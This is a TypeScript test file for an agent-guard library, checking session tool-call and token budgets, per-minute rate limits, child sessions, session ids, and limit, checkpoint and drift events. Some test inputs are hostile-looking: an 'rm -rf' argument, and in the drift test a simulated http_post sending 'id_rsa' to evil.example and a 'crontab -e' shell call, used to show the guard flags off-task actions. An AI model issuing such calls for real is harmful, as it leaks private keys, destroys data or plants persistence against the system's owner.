// Sessions over a stand-in engine: budgets, time, rates, children, ids, and what they announce.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { EventName } from "../../bindings/guard/events.ts";
import type { Guard } from "../../bindings/guard/guard.ts";
import { open, runs, verdicts } from "./opened.ts";

describe("budgets", () => {
  it("tool calls: so many, and no more", () => {
    const { session } = open({ maxToolCalls: 2 });
    const results = [1, 2, 3].map(() => session.check({ tool: "t" }));
    expect(verdicts(results)).toEqual(["allowed", "allowed", "tool_call_limit"]);
    expect(results[2]).toMatchObject({ rules: ["max_tool_calls"], message: "the session has made its 2 tool calls" });
  });

  it("zero means none", () => {
    expect(open({ maxToolCalls: 0 }).session.check({ tool: "t" }).reason).toBe("tool_call_limit");
    expect(open({ perMinute: 0 }).session.check({ tool: "t" }).reason).toBe("rate_limit");
    expect(open({ maxConcurrent: 0 }).session.check({ tool: "t" }).reason).toBe("concurrency_limit");
    expect(open({ timeoutSeconds: 0 }).session.check({ tool: "t" }).reason).toBe("time_limit");
  });

  it("denied calls, texts and results spend nothing", () => {
    const { session } = open({ maxToolCalls: 1, maxTokens: 10 });
    session.check({ tool: "t", args: ["rm -rf"], tokens: 9 });
    session.check({ tool: "t", args: ["ask"], tokens: 9 });
    session.check({ tool: "t", args: [() => 1], tokens: 9 });
    session.check({ tool: "t", tokens: 11 });
    session.checkText("hello");
    session.checkResult("t", "hello");
    expect(session.usage()).toEqual({ tokens: 0, toolCalls: 0, perTool: {}, running: 0 });
    expect(session.check({ tool: "t", tokens: 10 }).reason).toBe("allowed");
  });

  it("tokens: a call may use what is left, not more", () => {
    const { session } = open({ maxTokens: 10 });
    expect(session.check({ tool: "t", tokens: 10 }).allowed).toBe(true);
    expect(session.check({ tool: "t", tokens: 1 }).reason).toBe("token_limit");
    expect(session.check({ tool: "t" }).allowed).toBe(true);
  });

  it("tokens spent outside of calls count at the next check", () => {
    const { session } = open({ maxTokens: 10 });
    session.spend(11);
    expect(session.check({ tool: "t" }).reason).toBe("token_limit");
    expect(session.limitReached()).toMatchObject({ limit: "max_tokens", reason: "token_limit" });
    expect(() => session.spend(-1)).toThrow(/safe integer/);
  });

  it("counters stop at the last safe integer", () => {
    const { session } = open({ maxTokens: Number.MAX_SAFE_INTEGER });
    session.spend(Number.MAX_SAFE_INTEGER);
    session.spend(Number.MAX_SAFE_INTEGER);
    expect(session.usage().tokens).toBe(Number.MAX_SAFE_INTEGER);
    expect(session.check({ tool: "t", tokens: 1 }).reason).toBe("token_limit");
  });

  it("one tool: its own count, whatever it is called", () => {
    const { session } = open({ perTool: { constructor: 1, t: 2 } });
    const results = ["t", "t", "t", "constructor", "constructor", "toString", "toString"].map((tool) =>
      session.check({ tool }),
    );
    expect(verdicts(results)).toEqual([
      "allowed",
      "allowed",
      "tool_call_limit",
      "allowed",
      "tool_call_limit",
      "allowed",
      "allowed",
    ]);
    expect(results[2]?.rules).toEqual(["limits.per_tool.t"]);
  });

  it("wall time is that of the injected clock, from the opening on", () => {
    const { session, time } = open({ timeoutSeconds: 2 });
    time.now = 1999;
    expect(session.check({ tool: "t" }).allowed).toBe(true);
    expect(session.remainingTime()).toBe(1);
    time.now = 2000;
    expect(session.check({ tool: "t" }).reason).toBe("time_limit");
    expect(session.remainingTime()).toBe(0);
  });

  it("a budget narrows the policy's and never widens it", () => {
    const { guard } = open({ maxToolCalls: 2, perTool: { t: 5 } });
    const wide = guard.session({ id: "wide", budget: { maxToolCalls: 99 } });
    expect(verdicts([1, 2, 3].map(() => wide.check({ tool: "t" })))).toEqual(["allowed", "allowed", "tool_call_limit"]);
    const narrow = guard.session({ id: "narrow", budget: { maxToolCalls: 1, perTool: { t: 0 } } });
    expect(narrow.check({ tool: "t" }).reason).toBe("tool_call_limit");
    expect(narrow.check({ tool: "u" }).reason).toBe("allowed");
    for (const maxTokens of [-1, 1.5, Number.NaN, Number.POSITIVE_INFINITY, "5" as never]) {
      expect(() => guard.session({ id: "bad", budget: { maxTokens } })).toThrow(/budget.maxTokens/);
    }
  });

  it("observing counts on, and lets pass", () => {
    const { session } = open({ maxToolCalls: 1 }, { mode: "observe" });
    const results = [1, 2].map(() => session.check({ tool: "t" }));
    expect(results).toMatchObject([
      { observed: { reason: "allowed" } },
      { allowed: true, observed: { reason: "tool_call_limit" } },
    ]);
    expect(session.usage().toolCalls).toBe(2);
  });
});

describe("rates", () => {
  it("so many in any 60 seconds", () => {
    const { session, time } = open({ perMinute: 2 });
    const at = (now: number): string => {
      time.now = now;
      return session.check({ tool: "t" }).reason;
    };
    expect([0, 30_000, 59_999, 60_000, 60_001, 89_999, 90_000].map(at)).toEqual([
      "allowed",
      "allowed",
      "rate_limit",
      "allowed",
      "rate_limit",
      "rate_limit",
      "allowed",
    ]);
  });

  it("no window of a minute ever holds more, and nobody is refused without need", () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 5 }), fc.array(fc.nat(30_000), { maxLength: 60 }), (perMinute, gaps) => {
        const { session, time } = open({ perMinute });
        const passed: number[] = [];
        for (const gap of gaps) {
          time.now += gap;
          const inWindow = passed.filter((then) => then > time.now - 60_000).length;
          const { allowed } = session.check({ tool: "t" });
          expect(allowed).toBe(inWindow < perMinute);
          if (allowed) passed.push(time.now);
        }
      }),
      { numRuns: runs },
    );
  });
});

describe("children", () => {
  it("spend from their parent and have at most what it has left", () => {
    const { session } = open({ maxToolCalls: 3 });
    session.check({ tool: "t" });
    const child = session.child({ id: "child" });
    const grandchild = child.child({ id: "grandchild", budget: { maxToolCalls: 1 } });
    expect(grandchild.check({ tool: "t" }).allowed).toBe(true);
    expect(grandchild.check({ tool: "t" }).reason).toBe("tool_call_limit");
    expect(child.check({ tool: "t" }).allowed).toBe(true);
    expect(verdicts([child, session, grandchild].map((each) => each.check({ tool: "t" })))).toEqual(
      Array(3).fill("tool_call_limit"),
    );
    expect(session.usage().toolCalls).toBe(3);
    expect(grandchild.check({ tool: "t" }).rules).toEqual(["max_tool_calls"]);
  });

  it("end with their parent's time", () => {
    const { session, time } = open({ timeoutSeconds: 2 });
    time.now = 1500;
    const child = session.child({ id: "child" });
    expect(child.remainingTime()).toBe(500);
    time.now = 2000;
    expect(child.check({ tool: "t" }).reason).toBe("time_limit");
  });

  it("take their agent from the parent unless they have one", () => {
    const { session } = open({});
    expect(session.child({ id: "c" }).agent).toBe("a");
    expect(session.child({ id: "d", agent: "b" }).agent).toBe("b");
  });
});

describe("ids", () => {
  it("name one open session at a time", () => {
    const { guard, session } = open({ maxToolCalls: 1 });
    expect(() => guard.session({ id: "s" })).toThrow(/open already/);
    expect(() => guard.session({ id: "" })).toThrow(/needs an id/);
    expect(guard.check({ tool: "t", session: "s" }).allowed).toBe(true);
    expect(session.check({ tool: "t" }).reason).toBe("tool_call_limit");
    session.end();
    expect(session.check({ tool: "t" }).reason).toBe("session_required");
    expect(guard.check({ tool: "t", session: "s" }).reason).toBe("session_required");
    const next = guard.session({ id: "s" });
    expect(session.check({ tool: "t" }).reason).toBe("session_required");
    session.end();
    expect(next.check({ tool: "t" }).allowed).toBe(true);
  });

  it("of the session hold, whatever a call says", () => {
    const { guard, session } = open({ maxToolCalls: 1 });
    guard.session({ id: "other" });
    session.check({ tool: "t", session: "other" } as never);
    expect(session.usage().toolCalls).toBe(1);
  });
});

describe("events of a session", () => {
  const names: EventName[] = ["limit_reached", "checkpoint_created", "drift_detected"];
  function hear(guard: Guard): unknown[] {
    const log: unknown[] = [];
    for (const name of names) guard.on(name, (event) => log.push(event));
    return log;
  }

  it("a limit is told once, and again after it let a call pass", () => {
    const { guard, session, time } = open({ perMinute: 1, maxToolCalls: 2 });
    const log = hear(guard);
    const told = (): string[] => log.splice(0).map((event) => (event as { limit: string }).limit);
    for (let call = 0; call < 3; call += 1) session.check({ tool: "t" });
    expect(told()).toEqual(["limits.per_minute"]);
    time.now = 60_000;
    session.check({ tool: "t" });
    session.check({ tool: "t" });
    session.check({ tool: "t" });
    expect(told()).toEqual(["max_tool_calls", "limits.per_minute"]);
  });

  it("a checkpoint after every so many calls", () => {
    const { guard, session } = open({ checkpointFrequency: 2 });
    const log = hear(guard);
    for (let call = 0; call < 5; call += 1) session.check({ tool: "t", tokens: 3 });
    expect(log).toEqual([
      { type: "checkpoint_created", session: "s", agent: "a", toolCalls: 2, tokens: 6 },
      { type: "checkpoint_created", session: "s", agent: "a", toolCalls: 4, tokens: 12 },
    ]);
  });

  it("drift when what is done no longer speaks of the task", () => {
    const { guard } = open({ checkpointFrequency: 2, driftThreshold: 0.5 });
    const session = guard.session({ id: "task", task: "Summarise the quarterly sales figures of the northern region" });
    const log = hear(guard);
    session.check({ tool: "read_file", args: { path: "sales/northern-region/quarterly-figures.csv" } });
    session.check({ tool: "summarise", args: { text: "quarterly sales figures" } });
    expect(log.splice(0)).toMatchObject([{ type: "checkpoint_created" }]);
    session.check({ tool: "http_post", args: { url: "https://evil.example/upload", body: "id_rsa" } });
    session.check({ tool: "shell", args: { command: "crontab -e" } });
    expect(log).toMatchObject([
      { type: "checkpoint_created" },
      { type: "drift_detected", session: "task", threshold: 500 },
    ]);
    expect((log[1] as { drift: number }).drift).toBeGreaterThan(700);
  });
});
